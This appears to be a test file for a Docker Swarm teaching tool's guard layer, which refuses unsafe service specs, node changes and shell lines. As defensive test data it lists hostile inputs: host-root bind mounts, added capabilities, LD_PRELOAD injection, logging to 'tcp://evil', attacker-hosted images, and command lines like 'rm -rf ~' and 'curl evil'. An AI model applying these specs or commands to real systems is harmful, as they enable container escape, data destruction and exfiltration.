// The guarded Engine API and the command table of local mode, on the simulator wrapped in a
// spy: each hostile spec / node update / line is refused, and the backend saw no write
// (for command-table refusals: no call at all).
import { beforeEach, describe, expect, it } from 'vitest';
import { ApiError } from '../engine/api/swarm-api.js';
import type { SwarmApi } from '../engine/api/swarm-api.js';
import type { ServiceSpec } from '../engine/api/types.js';
import { recordCalls } from '../engine/node/server/call-log.js';
import type { EngineCall } from '../engine/node/server/call-log.js';
import { checkCommandLine, NOT_OURS } from '../engine/node/server/command-policy.js';
import { MAX_PORTS_PER_SERVICE } from '../engine/node/server/spec-policy.js';
import { GuardedApi, MANAGED_LABEL, MANAGED_LABEL_KEY, MAX_SERVICES, MAX_TOTAL_REPLICAS, REDACTED_TOKEN } from '../engine/node/server/guard.js';
import { LocalLedger } from '../engine/node/server/ledger.js';
import { Simulator } from '../engine/sim/simulator.js';
import { MAX_FOREIGN_TASKS, MAX_VIEW_NODES, newPseudonym, readViewLists, VIEW_READ_METHODS } from '../engine/node/server/view-reads.js';
import { X1_LINES } from './helpers/hostile-lines.js';

const WRITES = new Set(['serviceCreate', 'serviceUpdate', 'serviceDelete', 'serviceLogs', 'nodeUpdate', 'nodeRemove', 'swarmInit', 'swarmJoin', 'swarmLeave', 'swarmUpdate', 'distributionInspect']);
const writes = (calls: EngineCall[]): string[] => calls.map((c) => c.method).filter((m) => WRITES.has(m));

/** The spec `docker service create --replicas 3 --name redis --update-delay 10s redis:7.4.0` sends. */
function redisSpec(): ServiceSpec {
  return {
    Name: 'redis',
    Labels: {},
    TaskTemplate: {
      ContainerSpec: { Image: 'redis:7.4.0', Init: false, DNSConfig: {} },
      Resources: { Limits: {}, Reservations: {} },
      Placement: {},
      ForceUpdate: 0,
    },
    Mode: { Replicated: { Replicas: 3 } },
    UpdateConfig: { Parallelism: 1, Delay: 10e9, FailureAction: 'pause', Monitor: 5e9, MaxFailureRatio: 0, Order: 'stop-first' },
    EndpointSpec: { Mode: 'vip' },
  };
}

/** redisSpec with `patch` applied at a path like "TaskTemplate.ContainerSpec.Mounts". */
function hostile(path: string, value: unknown): ServiceSpec {
  const spec = redisSpec() as unknown as Record<string, unknown>;
  const keys = path.split('.');
  let o = spec;
  for (const k of keys.slice(0, -1)) o = o[k] as Record<string, unknown>;
  o[keys[keys.length - 1]!] = value;
  return spec as unknown as ServiceSpec;
}

const HOSTILE_SPECS: [row: string, path: string, value: unknown][] = [
  ['S1', 'TaskTemplate.ContainerSpec.Mounts', [{ Type: 'bind', Source: '/', Target: '/host' }]],
  ['S1', 'TaskTemplate.ContainerSpec.Mounts', [{ Type: 'volume', Source: 'x', Target: '/x' }]],
  ['S1', 'TaskTemplate.ContainerSpec.Mounts', [{ Type: 'tmpfs', Target: '/x' }]],
  ['S2', 'TaskTemplate.ContainerSpec.CapabilityAdd', ['ALL']],
  ['S2', 'TaskTemplate.ContainerSpec.CapabilityAdd', ['CAP_SYS_ADMIN']],
  ['S2', 'TaskTemplate.ContainerSpec.Privileges', { NoNewPrivileges: false }],
  ['S2', 'TaskTemplate.ContainerSpec.Sysctls', { 'net.ipv4.ip_forward': '1' }],
  ['S2', 'TaskTemplate.ContainerSpec.User', '0'],
  ['S2', 'TaskTemplate.ContainerSpec.Init', true],
  ['S2', 'TaskTemplate.ContainerSpec.Env', ['LD_PRELOAD=/tmp/x.so']],
  ['S2', 'TaskTemplate.ContainerSpec.Healthcheck', { Test: ['CMD', 'true'] }],
  ['S2', 'TaskTemplate.LogDriver', { Name: 'syslog', Options: { 'syslog-address': 'tcp://evil' } }],
  ['S2', 'TaskTemplate.ContainerSpec.Secrets', [{ SecretName: 's' }]],
  ['S2', 'TaskTemplate.ContainerSpec.Configs', [{ ConfigName: 'c' }]],
  ['S3', 'TaskTemplate.Networks', [{ Target: 'host' }]],
  ['S3', 'TaskTemplate.Runtime', 'plugin'],
  ['S3', 'TaskTemplate.PluginSpec', { Name: 'evil/plugin' }],
  ['S4', 'TaskTemplate.ContainerSpec.Image', 'alpine'],
  ['S4', 'TaskTemplate.ContainerSpec.Image', 'attacker.io/x:1'],
  ['S4', 'TaskTemplate.ContainerSpec.Image', `redis:7.4.0@sha256:${'a'.repeat(64)}`],
  ['S4', 'TaskTemplate.ContainerSpec.Image', 'redis'],
  ['S5', 'Mode', { Replicated: { Replicas: 100000 } }],
  ['S5', 'Mode', { Global: {} }],
  ['S5', 'UpdateConfig.Delay', 3600e9],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 6379, PublishedPort: 22, PublishMode: 'host' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 22, PublishedPort: 22, PublishMode: 'ingress' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 6379, PublishedPort: 9000, PublishMode: 'ingress' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'udp', TargetPort: 53, PublishedPort: 53, PublishMode: 'host' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'udp', TargetPort: 6379, PublishedPort: 8100, PublishMode: 'ingress' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'sctp', TargetPort: 6379, PublishedPort: 8080, PublishMode: 'ingress' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 6379, PublishedPort: 8080, PublishMode: 'bridge' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 6379, PublishMode: 'host' }]],
  ['S6', 'EndpointSpec.Ports', [8080, 8081, 8082, 8083, 8084].map((p) => ({ Protocol: 'tcp', TargetPort: 6379, PublishedPort: p, PublishMode: 'ingress' }))],
  ['S6', 'EndpointSpec.Mode', 'dnsrr'],
  ['S9', 'TaskTemplate.ContainerSpec.Args', ['sh', '-c', 'id']],
];

let sim: Simulator;
let raw: SwarmApi;
let calls: EngineCall[];
let guard: GuardedApi;

beforeEach(() => {
  sim = new Simulator({ seed: 3 });
  raw = sim.api('manager1');
  calls = [];
  guard = new GuardedApi(recordCalls(raw, calls), { scoped: false });
});

async function refusal(p: Promise<unknown>): Promise<ApiError> {
  const e = await p.then(
    () => undefined,
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(ApiError);
  expect((e as ApiError).statusCode).toBe(403);
  expect((e as ApiError).message).toMatch(/^not available in local mode: /);
  return e as ApiError;
}

describe('GuardedApi: service specs (create and update)', () => {
  it('accepts the lesson spec and labels the service as Swarm Lab\'s', async () => {
    const { ID } = await guard.serviceCreate(redisSpec());
    const s = await raw.serviceInspect(ID);
    expect(s.Spec.Labels[MANAGED_LABEL_KEY]).toBe('true');
    expect(writes(calls)).toEqual(['serviceCreate']);
  });

  it.each(HOSTILE_SPECS)('%s create %s = %j: 403, no Engine call, no service', async (_row, path, value) => {
    await refusal(guard.serviceCreate(hostile(path, value)));
    expect(calls).toEqual([]);
    expect(await raw.serviceList()).toEqual([]);
  });

  it.each(HOSTILE_SPECS)('S7 full-spec update sneaking %s = %j: 403 and the version does not move', async (_row, path, value) => {
    const { ID } = await guard.serviceCreate(redisSpec());
    const before = await raw.serviceInspect(ID);
    calls.length = 0;
    const spec = hostile(path, value);
    spec.Labels = { ...before.Spec.Labels };
    await refusal(guard.serviceUpdate(ID, before.Version.Index, spec));
    expect(writes(calls)).toEqual([]);
    const after = await raw.serviceInspect(ID);
    expect(after.Version.Index).toBe(before.Version.Index);
    expect(after.Spec).toEqual(before.Spec);
  });

  it('S6: published ports in 8080-8099 (ingress, tcp) pass on the sandbox, never on the learner\'s daemon', async () => {
    const port = [{ Protocol: 'tcp', TargetPort: 6379, PublishedPort: 8080, PublishMode: 'ingress' }];
    await guard.serviceCreate(hostile('EndpointSpec.Ports', port));
    const scoped = new GuardedApi(recordCalls(raw, calls), { scoped: true });
    calls.length = 0;
    await refusal(scoped.serviceCreate({ ...hostile('EndpointSpec.Ports', port), Name: 'web' }));
    expect(calls).toEqual([]);
  });

  // The routing-mesh lesson: UDP (protocol=udp, -p 8082:80/udp), host mode (mode=host), and up
  // to MAX_PORTS_PER_SERVICE ports on one service, still only in 8080-8099, still only on the sandbox.
  const LESSON_PORTS: [what: string, ports: { Protocol: string; TargetPort: number; PublishedPort: number; PublishMode: string }[]][] = [
    ['udp', [{ Protocol: 'udp', TargetPort: 80, PublishedPort: 8082, PublishMode: 'ingress' }]],
    ['host mode', [{ Protocol: 'tcp', TargetPort: 80, PublishedPort: 8090, PublishMode: 'host' }]],
    ['host mode udp', [{ Protocol: 'udp', TargetPort: 80, PublishedPort: 8099, PublishMode: 'host' }]],
    [
      `${MAX_PORTS_PER_SERVICE} ports, tcp and udp on one`,
      [
        { Protocol: 'tcp', TargetPort: 80, PublishedPort: 8080, PublishMode: 'ingress' },
        { Protocol: 'tcp', TargetPort: 80, PublishedPort: 8081, PublishMode: 'ingress' },
        { Protocol: 'tcp', TargetPort: 80, PublishedPort: 8082, PublishMode: 'ingress' },
        { Protocol: 'udp', TargetPort: 80, PublishedPort: 8082, PublishMode: 'ingress' },
      ],
    ],
  ];
  it.each(LESSON_PORTS)('S6 %s passes on the sandbox (nginx:1.27.3), never on the learner\'s daemon', async (_what, ports) => {
    const spec = { ...hostile('EndpointSpec.Ports', ports), Name: 'my-web' };
    spec.TaskTemplate.ContainerSpec!.Image = 'nginx:1.27.3';
    const { ID } = await guard.serviceCreate(spec);
    expect((await raw.serviceInspect(ID)).Spec.EndpointSpec?.Ports).toEqual(ports);
    const scoped = new GuardedApi(recordCalls(raw, calls), { scoped: true });
    calls.length = 0;
    expect((await refusal(scoped.serviceCreate({ ...spec, Name: 'web2' }))).message).toBe('not available in local mode: publishing ports is not allowed on your own Docker daemon');
    expect(calls).toEqual([]);
  });
});

/** A 404 "service REF not found", worded for the learner's daemon when `scoped`. */
async function notFound(p: Promise<unknown>, ref: string, scoped: boolean): Promise<void> {
  const e = await p.then(
    () => undefined,
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(ApiError);
  expect((e as ApiError).statusCode).toBe(404);
  expect((e as ApiError).message).toBe(scoped ? `service ${ref} not found (${NOT_OURS})` : `service ${ref} not found`);
}

/** Every Engine call of `calls` read or named only Swarm Lab's objects: none carries `theirs` (names and IDs). */
function touchedNone(theirs: string[]): void {
  for (const c of calls) {
    const text = JSON.stringify(c.args);
    for (const t of theirs) expect(text, `${c.method} ${text}`).not.toContain(t);
    // A list of services is always asked with the label: it returns nothing of theirs.
    if (c.method === 'serviceList') expect(text).toContain(MANAGED_LABEL);
  }
  for (const m of ['serviceInspect', 'serviceDelete', 'serviceLogs', 'serviceUpdate', 'taskInspect']) {
    for (const c of calls.filter((x) => x.method === m)) expect(theirs).not.toContain(c.args[0]);
  }
}

describe('GuardedApi: scope, nodes, swarm, registry', () => {
  it.each([true, false])('S8/G1 (scoped=%s: own daemon and sandbox alike): a service without the label is never read, changed or removed', async (isScoped) => {
    const { ID } = await raw.serviceCreate({ ...redisSpec(), Name: 'mine' });
    sim.clock.advance(10_000);
    const theirTask = (await raw.taskList({ service: [ID] }))[0]!.ID;
    const scoped = new GuardedApi(recordCalls(raw, calls), { scoped: isScoped });
    const before = await raw.serviceInspect(ID);
    calls.length = 0;
    await notFound(scoped.serviceUpdate(ID, before.Version.Index, { ...before.Spec, Labels: {}, Mode: { Replicated: { Replicas: 1 } } }), ID, isScoped);
    await notFound(scoped.serviceDelete('mine'), 'mine', isScoped);
    await notFound(scoped.serviceLogs('mine'), 'mine', isScoped);
    await notFound(scoped.serviceInspect('mine'), 'mine', isScoped);
    await notFound(scoped.serviceInspect(ID.slice(0, 5)), ID.slice(0, 5), isScoped);
    await notFound(scoped.taskList({ service: ['mine'] }), 'mine', isScoped);
    await expect(scoped.taskInspect(theirTask)).rejects.toMatchObject({ statusCode: 404 });
    expect(await scoped.taskList()).toEqual([]);
    expect(await scoped.containerList({ all: true })).toEqual([]);
    expect(await scoped.serviceList()).toEqual([]);
    expect(writes(calls)).toEqual([]);
    // Nothing was asked about their service: only label-filtered lists (and no task or container list at all, there being no Swarm Lab service).
    touchedNone(['mine', ID, theirTask]);
    expect(calls.map((c) => c.method).filter((m) => m !== 'serviceList')).toEqual([]);
    expect((await raw.serviceInspect(ID)).Version.Index).toBe(before.Version.Index);
    // Listing shows only Swarm Lab's services; its own can be read and changed as usual, and
    // reading them asks for them alone (their tasks by a service filter, their containers by label).
    const created = await scoped.serviceCreate(redisSpec());
    sim.clock.advance(10_000);
    calls.length = 0;
    expect((await scoped.serviceList()).map((s) => s.ID)).toEqual([created.ID]);
    const tasks = await scoped.taskList();
    expect(tasks.length).toBe(3);
    expect(tasks.every((t) => t.ServiceID === created.ID)).toBe(true);
    expect((await scoped.taskList({ service: ['redis'] })).length).toBe(3);
    expect((await scoped.taskInspect(tasks[0]!.ID)).ID).toBe(tasks[0]!.ID);
    const nodeOfTask = (await raw.nodeInspect(tasks[0]!.NodeID!)).Description.Hostname;
    const onNode = new GuardedApi(recordCalls(sim.api(nodeOfTask), calls), { scoped: isScoped, manager: recordCalls(raw, calls) });
    const containers = await onNode.containerList();
    expect(containers.length).toBeGreaterThan(0);
    expect(containers.every((c) => c.Labels['com.docker.swarm.service.id'] === created.ID)).toBe(true);
    for (const c of calls.filter((x) => x.method === 'taskList')) expect(c.args[0]).toMatchObject({ service: [created.ID] });
    for (const c of calls.filter((x) => x.method === 'containerList')) expect(c.args[0]).toMatchObject({ filters: { label: [`com.docker.swarm.service.id=${created.ID}`] } });
    touchedNone(['mine', ID, theirTask]);
    await scoped.serviceDelete('redis');
    expect((await raw.serviceList()).map((s) => s.Spec.Name)).toEqual(['mine']);
  });

  it('N3: on the learner\'s own daemon a node\'s availability never changes: refused before any Engine call', async () => {
    const scoped = new GuardedApi(recordCalls(raw, calls), { scoped: true });
    const node = await raw.nodeInspect('manager1');
    for (const availability of ['drain', 'pause', 'active'] as const) {
      const e = await refusal(scoped.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Availability: availability }));
      expect(e.message).toMatch(/your own Docker daemon Swarm Lab never changes a node's availability/);
    }
    expect(calls).toEqual([]);
    expect((await raw.nodeInspect('manager1')).Version.Index).toBe(node.Version.Index);
  });

  it('N4: on the sandbox every availability Swarm Lab changes is remembered with what it was, and put back', async () => {
    const ledger = new LocalLedger();
    const sandbox = new GuardedApi(recordCalls(raw, calls), { scoped: false, ledger });
    const set = async (host: string, availability: 'active' | 'pause' | 'drain'): Promise<void> => {
      const n = await raw.nodeInspect(host);
      await sandbox.nodeUpdate(n.ID, n.Version.Index, { ...n.Spec, Availability: availability });
    };
    // worker2 was paused before Swarm Lab touched it: that is what it goes back to.
    const w2 = await raw.nodeInspect('worker2');
    await raw.nodeUpdate(w2.ID, w2.Version.Index, { ...w2.Spec, Availability: 'pause' });
    await set('worker1', 'drain');
    await set('worker1', 'pause');
    await set('worker2', 'active');
    await set('manager1', 'drain');
    await set('manager1', 'active'); // set back by the learner: nothing to restore
    expect([...ledger.changedNodes().values()].map((n) => `${n.hostname}:${n.before}`).sort()).toEqual(['worker1:active', 'worker2:pause']);
    const r = await ledger.restoreNodes(raw);
    expect(r).toEqual({ restored: ['worker1', 'worker2'], failed: [] });
    expect((await raw.nodeList()).map((n) => `${n.Description.Hostname}:${n.Spec.Availability}`).sort()).toEqual(['manager1:active', 'worker1:active', 'worker2:pause']);
    expect(ledger.changedNodes().size).toBe(0);
  });

  it('N1: a node update may change the availability only; node rm is refused; an unknown node is 404', async () => {
    const node = await raw.nodeInspect('worker1');
    await refusal(guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Role: 'manager' }));
    await refusal(guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Labels: { evil: '1' } }));
    await refusal(guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Availability: 'gone' as never }));
    await refusal(guard.nodeRemove(node.ID, true));
    expect(writes(calls)).toEqual([]);
    expect((await raw.nodeInspect('worker1')).Version.Index).toBe(node.Version.Index);
    const missing = await guard.nodeUpdate('nosuchnode', 1, { ...node.Spec, Availability: 'drain' }).catch((e: unknown) => e);
    expect((missing as ApiError).statusCode).toBe(404);
    await guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Availability: 'drain' });
    expect((await raw.nodeInspect('worker1')).Spec.Availability).toBe('drain');
  });

  it('N2: the manager join token never leaves; the worker token only on the sandbox', async () => {
    const real = await raw.swarmInspect();
    const shown = await guard.swarmInspect();
    expect(shown.JoinTokens.Manager).toBe(REDACTED_TOKEN);
    expect(JSON.stringify(shown)).not.toContain(real.JoinTokens.Manager);
    expect(shown.JoinTokens.Worker).toBe(real.JoinTokens.Worker);
    const scoped = await new GuardedApi(raw, { scoped: true }).swarmInspect();
    expect(JSON.stringify(scoped)).not.toContain(real.JoinTokens.Worker);
  });

  it('swarm membership calls and registry lookups are refused without an Engine call', async () => {
    await refusal(guard.swarmLeave(true));
    await refusal(guard.swarmInit({ ForceNewCluster: true }));
    await refusal(guard.swarmJoin({ RemoteAddrs: ['1.2.3.4:2377'], JoinToken: 'x' }));
    const s = await raw.swarmInspect();
    await refusal(guard.swarmUpdate(s.Version.Index, s.Spec, { rotateManagerToken: true }));
    await refusal(guard.distributionInspect('attacker.io/x:1'));
    expect(calls).toEqual([]);
  });
});

describe('GuardedApi: resource caps (Q1-Q3)', () => {
  const named = (name: string, replicas: number): ServiceSpec => ({ ...redisSpec(), Name: name, Mode: { Replicated: { Replicas: replicas } } });

  it(`Q1: at most ${MAX_SERVICES} services: the next create is refused before any write, saying so`, async () => {
    // One of the learner's own services does not count (and is not read).
    await raw.serviceCreate({ ...named('mine', 10), Labels: {} });
    for (let i = 0; i < MAX_SERVICES; i++) await guard.serviceCreate(named(`s${i}`, 1));
    calls.length = 0;
    const e = await refusal(guard.serviceCreate(named('one-more', 1)));
    expect(e.message).toMatch(new RegExp(`at most ${MAX_SERVICES} services on a real swarm and has ${MAX_SERVICES} \\(s0, s1, s2, s3, s4\\)\\. Remove one first`));
    expect(writes(calls)).toEqual([]);
    expect(calls.map((c) => c.method)).toEqual(['serviceList']);
    await guard.serviceDelete('s0');
    await guard.serviceCreate(named('one-more', 1));
  });

  it(`Q2: at most ${MAX_TOTAL_REPLICAS} replicas in all, on create, update, scale and rollback; scaling down always works`, async () => {
    await guard.serviceCreate(named('a', 10));
    await guard.serviceCreate(named('b', 8));
    calls.length = 0;
    const e = await refusal(guard.serviceCreate(named('c', 3)));
    expect(e.message).toMatch(/at most 20 replicas in all on a real swarm; this would make 21 \(the others: a 10, b 8\)\. Scale a service down or remove one first/);
    await guard.serviceCreate(named('c', 2));
    const b = await raw.serviceInspect('b');
    await refusal(guard.serviceUpdate(b.ID, b.Version.Index, { ...b.Spec, Mode: { Replicated: { Replicas: 9 } } }));
    expect(writes(calls).filter((m) => m === 'serviceUpdate')).toEqual([]);
    await guard.serviceUpdate(b.ID, b.Version.Index, { ...b.Spec, Mode: { Replicated: { Replicas: 4 } } });
    // b's previous spec had 8: rolling back to it counts 8 (20 - 4 + 8 = 24 > 20 with a at 10, c at 2).
    await guard.serviceCreate(named('d', 4));
    const b2 = await raw.serviceInspect('b');
    calls.length = 0;
    await refusal(guard.serviceUpdate(b2.ID, b2.Version.Index, b2.Spec, { rollback: 'previous' }));
    expect(writes(calls)).toEqual([]);
    expect(replicasNow(await raw.serviceInspect('b'))).toBe(4);
  });

  it('Q3: two terminals creating at once cannot both pass the check (one queue per server)', async () => {
    const ledger = new LocalLedger();
    const one = new GuardedApi(recordCalls(raw, calls), { scoped: false, ledger });
    const two = new GuardedApi(recordCalls(raw, calls), { scoped: false, ledger });
    const results = await Promise.allSettled(Array.from({ length: 8 }, (_, i) => (i % 2 ? one : two).serviceCreate(named(`p${i}`, 7))));
    expect(results.filter((r) => r.status === 'fulfilled').length).toBe(Math.floor(MAX_TOTAL_REPLICAS / 7));
    const total = (await raw.serviceList()).reduce((n, s) => n + replicasNow(s), 0);
    expect(total).toBeLessThanOrEqual(MAX_TOTAL_REPLICAS);
  });
});

const replicasNow = (s: { Spec: ServiceSpec }): number => s.Spec.Mode?.Replicated?.Replicas ?? 0;

describe('GuardedApi: info on the learner\'s daemon (I1)', () => {
  it('I1: only the fields docker info prints leave the learner\'s daemon; the sandbox\'s info is as it is', async () => {
    const secretInfo = { ...(await raw.info()), HTTPProxy: 'http://user:hunter2@proxy:3128', Labels: ['secret=1'], RegistryConfig: { InsecureRegistryCIDRs: ['127.0.0.0/8'], Mirrors: ['https://mirror.corp'] } };
    const withSecrets = { ...raw, info: async () => secretInfo } as unknown as SwarmApi;
    const shown = await new GuardedApi(withSecrets, { scoped: true }).info();
    const text = JSON.stringify(shown);
    for (const leak of ['hunter2', 'secret=1', 'mirror.corp', 'HTTPProxy']) expect(text).not.toContain(leak);
    expect(Object.keys(shown)).not.toContain('Labels');
    expect(shown.Swarm).toEqual(secretInfo.Swarm);
    expect(shown.Name).toBe(secretInfo.Name);
    expect(shown.RegistryConfig).toEqual({ InsecureRegistryCIDRs: ['127.0.0.0/8'] });
    expect(await new GuardedApi(withSecrets, { scoped: false }).info()).toEqual(secretInfo);
  });
});

/** The learner's own service, with everything a view must never show of it. */
const FOREIGN_SECRET = 'DB_PASSWORD=hunter2';
function foreignSpec(replicas: number, name = 'payroll-db'): ServiceSpec {
  return {
    Name: name,
    Labels: { 'com.corp.team': 'payments-secret-team' },
    TaskTemplate: {
      ContainerSpec: {
        Image: 'redis:7.4.0',
        Env: [FOREIGN_SECRET],
        Args: ['--requirepass', 'argsecret42'],
        Labels: { 'com.corp.container': 'containerlabel77' },
        Mounts: [{ Type: 'bind', Source: '/srv/payroll-data', Target: '/data' }],
      } as never,
      ForceUpdate: 0,
    },
    Mode: { Replicated: { Replicas: replicas } },
  };
}

describe('the swarm view\'s reads (V1-V3): read-only, three kinds of GET, nothing of the learner\'s but node and state', () => {
  const settle = (): void => void sim.clock.advance(30_000);
  const pseudonym = newPseudonym();
  const read = (api: SwarmApi, history = true) => readViewLists(api, { pseudonym, self: 'manager1', now: sim.clock.now, history });

  it('V1: the view makes GET /nodes, GET /services (Swarm Lab\'s label, with status) and GET /tasks (Swarm Lab\'s services; every service\'s live tasks) only', async () => {
    await guard.serviceCreate(redisSpec());
    await raw.serviceCreate(foreignSpec(2));
    settle();
    const ours = (await raw.serviceList()).find((s) => s.Spec.Name === 'redis')!.ID;
    calls.length = 0;
    const { model } = await read(recordCalls(raw, calls));
    expect(calls.map((c) => c.method).every((m) => (VIEW_READ_METHODS as readonly string[]).includes(m))).toBe(true);
    expect(calls).toEqual([
      { method: 'nodeList', args: [] },
      { method: 'serviceList', args: [{ filters: { label: [MANAGED_LABEL] }, status: true }] },
      { method: 'taskList', args: [{ service: [ours] }] },
      { method: 'taskList', args: [{ 'desired-state': ['running'] }] },
    ]);
    expect(model.nodes.map((n) => n.hostname)).toEqual(['manager1', 'worker1', 'worker2']);
    // Without a service of Swarm Lab's, its task list is not asked for.
    await guard.serviceDelete('redis');
    calls.length = 0;
    await read(recordCalls(raw, calls));
    expect(calls.map((c) => c.method)).toEqual(['nodeList', 'serviceList', 'taskList']);
    expect(calls[2]!.args).toEqual([{ 'desired-state': ['running'] }]);
  });

  it('V2: a service not Swarm Lab\'s shows as grey chips with node and state only: no env, labels, mounts, args, name, image or IDs of it in the model', async () => {
    await guard.serviceCreate(redisSpec());
    const theirs = await raw.serviceCreate(foreignSpec(3));
    settle();
    // An update leaves history behind for both; the learner's is never read.
    const spec = (await raw.serviceInspect(theirs.ID)).Spec;
    await raw.serviceUpdate(theirs.ID, (await raw.serviceInspect(theirs.ID)).Version.Index, { ...spec, TaskTemplate: { ...spec.TaskTemplate, ForceUpdate: 1 } });
    sim.clock.advance(120_000);
    const theirTasks = await raw.taskList({ service: [theirs.ID] });
    expect(theirTasks.length).toBeGreaterThan(3);
    const { model } = await read(raw);
    const text = JSON.stringify(model);
    for (const leak of ['hunter2', 'DB_PASSWORD', 'payroll', 'payments-secret-team', 'containerlabel77', 'argsecret42', '/srv/', theirs.ID, ...theirTasks.map((t) => t.ID)]) {
      expect(text, leak).not.toContain(leak);
    }
    expect(model.services.map((s) => [s.name, s.ours])).toEqual([['redis', true]]);
    const foreign = model.tasks.filter((t) => !t.ours);
    // Their live tasks only (three), each a chip on its node with its states, nothing else.
    expect(foreign).toHaveLength(3);
    const nodeIds = new Set(model.nodes.map((n) => n.id));
    for (const t of foreign) {
      expect(t).toEqual({ id: t.id, name: '', service: '', slot: 0, node: t.node, image: '', desired: 'running', state: 'running', since: 0, err: '', error: '', history: false, ours: false });
      expect(nodeIds.has(t.node)).toBe(true);
      expect(t.id).toMatch(/^[0-9a-f]{25}$/);
    }
    expect(new Set(foreign.map((t) => t.id)).size).toBe(3);
    // Stable from one read to the next (the page animates by id), another key gives others.
    expect((await read(raw)).model.tasks.filter((t) => !t.ours).map((t) => t.id)).toEqual(foreign.map((t) => t.id));
    const other = await readViewLists(raw, { pseudonym: newPseudonym(), now: 0, history: true });
    expect(other.model.tasks.filter((t) => !t.ours).map((t) => t.id)).not.toEqual(foreign.map((t) => t.id));
    // Swarm Lab's are shown in full, after them in the order service ps prints them, history too.
    const ours = model.tasks.filter((t) => t.ours);
    expect(ours.filter((t) => !t.history).map((t) => [t.name, t.image, t.state])).toEqual([1, 2, 3].map((i) => [`redis.${i}`, 'redis:7.4.0', 'running']));
    expect(model.tasks.slice(0, ours.length)).toEqual(ours);
    // A pending task of theirs: in the Pending lane, without the scheduler's reason (it quotes their constraints).
    await raw.serviceCreate({ ...foreignSpec(1, 'stuck'), TaskTemplate: { ...foreignSpec(1).TaskTemplate, Placement: { Constraints: ['node.labels.secretzone==vault7'] } } });
    settle();
    const pending = (await read(raw)).model.tasks.filter((t) => !t.ours && t.node === '');
    expect(pending).toHaveLength(1);
    expect(pending[0]).toMatchObject({ state: 'pending', err: '', error: '', name: '' });
    expect(JSON.stringify((await read(raw)).model)).not.toContain('vault7');
  });

  it('V1b: a service removed between the lists (docker service rm while the view reads) is read again, not a failed view', async () => {
    await guard.serviceCreate(redisSpec());
    const gone = await guard.serviceCreate({ ...redisSpec(), Name: 'gone' });
    settle();
    let raced = false;
    const racing = new Proxy(raw, {
      get(target, prop, receiver) {
        if (prop !== 'taskList') return Reflect.get(target, prop, receiver) as unknown;
        return async (filters?: { service?: string[] }) => {
          if (!raced && filters?.service?.includes(gone.ID)) {
            raced = true;
            await raw.serviceDelete(gone.ID);
          }
          return raw.taskList(filters as never);
        };
      },
    });
    calls.length = 0;
    const { model } = await read(recordCalls(racing, calls));
    expect(raced).toBe(true);
    expect(model.services.map((x) => x.name)).toEqual(['redis']);
    expect(calls.map((c) => c.method)).toEqual(['nodeList', 'serviceList', 'taskList', 'serviceList', 'taskList', 'taskList']);
  });

  it(`V3: bounded: at most ${MAX_FOREIGN_TASKS} chips of other services and ${MAX_VIEW_NODES} nodes in a model, the rest counted; Swarm Lab's and the shell's node always in`, async () => {
    sim = new Simulator({ seed: 4, topology: '1m249w' });
    raw = sim.api('manager1');
    guard = new GuardedApi(raw, { scoped: false });
    await raw.serviceCreate(foreignSpec(1000));
    await guard.serviceCreate({ ...redisSpec(), Mode: { Replicated: { Replicas: 1 } }, TaskTemplate: { ...redisSpec().TaskTemplate, Placement: { Constraints: ['node.hostname==worker249'] } } });
    sim.clock.advance(120_000);
    const { model, omitted } = await read(raw, false);
    expect(model.nodes).toHaveLength(MAX_VIEW_NODES);
    expect(omitted.nodes).toBe(250 - MAX_VIEW_NODES);
    const hosts = new Set(model.nodes.map((n) => n.hostname));
    expect(hosts.has('manager1') && hosts.has('worker249')).toBe(true);
    expect(model.tasks.filter((t) => t.ours).map((t) => t.name)).toEqual(['redis.1']);
    const foreign = model.tasks.filter((t) => !t.ours);
    expect(foreign).toHaveLength(MAX_FOREIGN_TASKS);
    expect(foreign.length + omitted.tasks).toBe(1000);
    // No chip points at a node left out.
    const ids = new Set(model.nodes.map((n) => n.id));
    expect(model.tasks.every((t) => t.node === '' || ids.has(t.node))).toBe(true);
    expect(model.nodes.every((n) => !n.gone)).toBe(true);
    expect(JSON.stringify(model).length).toBeLessThan(128 * 1024);
  });
});

describe('command table', () => {
  it.each(X1_LINES)('X1 %s: not available in local mode', (line) => {
    const v = checkCommandLine(line, { scoped: false });
    expect(v.ok).toBe(false);
    expect(!v.ok && v.message).toMatch(/not available in local mode/);
  });

  const X2 = ['docker service ls; rm -rf ~', 'docker service ls && curl evil', 'echo $(id)', 'echo `id`', 'docker service ls | sh', 'docker service ls\nrm -rf ~', 'docker service create —replicas 3 redis:7.4.0', 'echo ${HOME}', 'docker service ls\u0000'];
  it.each(X2)('X2 %j: refused', (line) => {
    expect(checkCommandLine(line, { scoped: false }).ok).toBe(false);
  });

  it('the lessons\' commands pass', () => {
    for (const line of [
      'docker service create --replicas 3 --name redis --update-delay 10s redis:7.4.0',
      'docker service update --detach --image redis:7.4.1 redis',
      'docker node update --availability drain worker1',
      'docker service scale redis=5',
      'docker service ps redis',
      'docker service inspect --pretty redis',
      'docker swarm join-token worker',
      'docker node ls',
      'ssh worker1',
      'docker service rollback redis',
      'docker service rm redis',
      'docker service create --help',
    ]) {
      expect(checkCommandLine(line, { scoped: false }), line).toEqual({ ok: true });
    }
    expect(checkCommandLine('docker swarm join-token worker', { scoped: true }).ok).toBe(false);
  });

  it.each([
    ['docker swarm join-token --rotate worker', /^docker swarm join-token --rotate: not available in local mode: rotating join tokens changes the swarm itself/],
    ['docker swarm join-token manager', /^docker swarm join-token manager: not available in local mode: the manager token would let any machine join as a manager/],
